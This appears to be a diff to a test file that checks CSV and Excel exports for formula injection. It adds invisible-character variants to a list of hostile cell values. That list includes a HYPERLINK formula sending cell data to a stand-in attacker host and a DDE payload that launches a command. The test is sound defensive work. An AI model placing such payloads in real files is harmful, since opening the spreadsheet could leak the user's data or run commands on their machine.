@@ -15,6 +15,7 @@ from runs.exports import csv_of, xlsx_of
 BAD = [
     '=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "  =1",
     "\uff1dSUM(1)", "a;=1+1", "a\t@x", "a\n=1", '";=1', "=",
+    "\ufeff=1+1", "\x00=1", "\u200b@SUM(1)", "\ufeff \x00+1+cmd", "a;\ufeff=1",
 ]  # fmt: skip
 
 
@@ -26,7 +27,8 @@ def cells(text: str, separator: str) -> list[str]:
 def test_no_cell_is_a_formula(bad: str) -> None:
     text = csv_of([bad, "n"], [[bad, 1], [2, bad]])
     for separator in ",;\t":
-        assert not [c for c in cells(text, separator) if c.lstrip()[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")]
+        unseen = " \t\r\n\x00\ufeff\u200b"  # what a spreadsheet may drop before it looks
+        assert not [c for c in cells(text, separator) if c.lstrip(unseen)[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")]
     sheet = load_workbook(io.BytesIO(xlsx_of([bad, "n"], [[bad, 1], [2, bad]]))).worksheets[0]
     found = [c for row in sheet.iter_rows() for c in row]
     assert {c.data_type for c in found} == {"s", "n"}
